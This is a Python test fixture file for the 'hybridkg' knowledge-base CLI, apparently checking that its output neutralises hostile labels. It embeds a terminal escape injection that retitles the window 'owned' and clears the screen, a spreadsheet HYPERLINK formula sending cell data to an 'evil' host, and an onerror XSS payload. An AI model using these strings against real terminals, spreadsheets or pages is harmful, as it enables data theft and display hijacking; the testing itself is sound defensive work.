"""A knowledge base whose every value is hostile, and how commands are asked as a terminal would."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from hybridkg import KnowledgeBase
from hybridkg.cli import cli

LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
COMMANDS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
"""Written anew, not imported: what a terminal would obey."""

TITLE, CLEAR, C1, TURNED = "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x9b31m", "\u202e"
NASTY = f"red {TITLE}{CLEAR}{C1}{TURNED} fish"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'
MARKUP = "<img src=x onerror=alert(1)> [red]markup[/red]"


def turtle(text: str) -> str:
    return '"' + "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04X}" for c in text) + '"'


@pytest.fixture(scope="session")
def hostile(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    lines = [f"<http://e/{name}> <{LABEL}> {turtle(text + ' fish')} .\n" for name, text in
             (("nasty", NASTY), ("formula", FORMULA), ("markup", MARKUP), ("plain", "a fish"))]  # fmt: skip
    (folder / "data.ttl").write_text("".join(lines))
    with KnowledgeBase.create(folder / "kb") as kb:
        kb.load(folder / "data.ttl", index=True)
    return folder / "kb"


@pytest.fixture
def ask():
    """Runs a command; colours stay in what it prints, as on a terminal (click would drop what it takes for one)."""

    def run(*words, stdin=None):
        result = CliRunner().invoke(cli, [str(word) for word in words], input=stdin, color=True)
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        return result

    return run
